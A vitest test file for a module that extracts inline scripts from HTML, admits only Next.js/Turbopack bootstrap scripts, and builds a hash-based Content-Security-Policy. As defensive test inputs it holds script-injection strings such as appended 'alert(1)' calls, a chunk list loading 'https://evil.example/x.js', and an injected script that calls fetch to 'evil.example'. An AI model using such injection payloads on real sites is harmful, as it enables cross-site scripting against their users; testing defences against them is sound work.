import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { hashedPolicy, inlineScripts, isFrameworkScript, pageScripts, scriptHash } from '@/web-server/inline-scripts';

describe('inlineScripts', () => {
  it('takes the text between the tags as it is, and skips scripts with a src and data blocks', () => {
    const html = [
      '<script src="/a.js" async=""></script>',
      '<script>one()</script>',
      '<SCRIPT type="module" data-x=\'a>b\'>two()</SCRIPT >',
      '<script type="application/ld+json">{"@type":"JobPosting"}</script>',
      '<script type="text/javascript">\n three() </script>',
      '<script id="s" src=/b.js></script>',
    ].join('');
    expect(inlineScripts(html)).toEqual(['one()', 'two()', '\n three() ']);
  });

  it('ends a script at the first </script, whatever it looks like inside', () => {
    expect(inlineScripts('<script>a("</script>")</script>')).toEqual(['a("']);
    expect(inlineScripts('<script>a("</scripts>")</script/>')).toEqual(['a("</scripts>")']);
  });

  it('finds no script inside comments, raw text elements or attribute values', () => {
    const html = [
      '<!-- <script>no1()</script> -->',
      '<textarea><script>no2()</script></textarea>',
      '<style>a::after{content:"<script>no3()</script>"}</style>',
      '<title><script>no4()</script></title>',
      '<div title="<script>no5()</script>">',
      '<noscript><script>no6()</script></noscript>',
      '<script>yes()</script>',
    ].join('');
    expect(inlineScripts(html)).toEqual(['yes()']);
  });

  it('normalises line breaks as the HTML parser does before the script exists', () => {
    expect(inlineScripts('<script>a()\r\nb()\rc()</script>')).toEqual(['a()\nb()\nc()']);
  });

  it('keeps reading after an unterminated script or tag without failing', () => {
    expect(inlineScripts('<script>a()')).toEqual(['a()']);
    expect(inlineScripts('<div title="x')).toEqual([]);
  });
});

describe('isFrameworkScript', () => {
  it('accepts the payload bootstrap and pushes of JSON arrays', () => {
    expect(isFrameworkScript('(self.__next_f=self.__next_f||[]).push([0])')).toBe(true);
    expect(isFrameworkScript('self.__next_f.push([1,"1:I[\\"x\\",[]]\\n"])')).toBe(true);
    expect(isFrameworkScript('self.__next_f.push([2,null])')).toBe(true);
  });

  it("accepts Turbopack's runtime start when it names only same-origin chunks and module ids", () => {
    const start = (value: string) => `(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(${value});`;
    expect(isFrameworkScript(start('{"otherChunks":["static/chunks/284bxxjq80cv2.js","static/chunks/1-0yorxrn1udw.js"],"runtimeModuleIds":[324313]}'))).toBe(true);
    expect(isFrameworkScript(start('{"otherChunks":["https://evil.example/x.js"],"runtimeModuleIds":[1]}'))).toBe(false);
    expect(isFrameworkScript(start('{"otherChunks":[],"runtimeModuleIds":[1],"x":1}'))).toBe(false);
    expect(isFrameworkScript(start('{"otherChunks":[],"runtimeModuleIds":[1]}),alert(1'))).toBe(false);
  });

  it('refuses anything that is not only such a push', () => {
    for (const script of [
      'alert(1)',
      'self.__next_f.push([1,"a"]);alert(1)',
      'self.__next_f.push([1,"a"]);alert(1);self.__next_f.push([1,"b"])',
      'self.__next_f.push([1,"a"],alert(1))',
      'self.__next_f.push(alert(1))',
      'self.__next_f.push({"a":1})',
      '(self.__next_f=self.__next_f||[]).push([0]);alert(1)',
    ]) {
      expect(isFrameworkScript(script), script).toBe(false);
    }
  });
});

describe('hashes and the policy', () => {
  it('hashes the UTF-8 bytes of the text, as browsers do', () => {
    const text = 'self.__next_f.push([1,"Olá 東京 مرحبا"])';
    expect(scriptHash(text)).toBe(`'sha256-${createHash('sha256').update(Buffer.from(text, 'utf8')).digest('base64')}'`);
  });

  it('lists each framework script once and counts the others', () => {
    const html = '<script>(self.__next_f=self.__next_f||[]).push([0])</script><script>self.__next_f.push([2,null])</script><script>self.__next_f.push([2,null])</script><script>x()</script>';
    expect(pageScripts(html)).toEqual({ hashes: [scriptHash('(self.__next_f=self.__next_f||[]).push([0])'), scriptHash('self.__next_f.push([2,null])')], foreign: 1 });
  });

  it("replaces 'unsafe-inline' in script-src only", () => {
    const policy = "default-src 'self'; script-src 'self' 'unsafe-inline'; script-src-attr 'none'; style-src 'self' 'unsafe-inline'";
    expect(hashedPolicy(policy, ["'sha256-a'", "'sha256-b'"])).toBe(
      "default-src 'self'; script-src 'self' 'sha256-a' 'sha256-b'; script-src-attr 'none'; style-src 'self' 'unsafe-inline'",
    );
    expect(hashedPolicy(policy, [])).toContain("script-src 'self';");
  });
});

// The change-password page as next build wrote it; .html.txt so that the linter leaves it as built.
describe('a page as next build wrote it', () => {
  const html = readFileSync(join(process.cwd(), 'tests/fixtures/cached-page.html.txt'), 'utf8');

  it("finds Turbopack's start, the payload bootstrap and the payload, all the framework's", () => {
    const scripts = inlineScripts(html);
    expect(scripts.map((text) => text.slice(0, 22))).toEqual(['(globalThis["TURBOPACK', '(self.__next_f=self.__', 'self.__next_f.push([1,']);
    // Each is exactly the text between its tags in the file.
    for (const text of scripts) expect(html).toContain(`>${text}</script>`);
    expect(pageScripts(html)).toEqual({ hashes: scripts.map(scriptHash), foreign: 0 });
  });

  it('refuses a script slipped into the markup, and keeps the others', () => {
    const injected = html.replace('<main', '<script>self.__next_f.push([1,"x"]);fetch("//evil.example")</script><main');
    expect(pageScripts(injected)).toEqual({ hashes: pageScripts(html).hashes, foreign: 1 });
  });
});
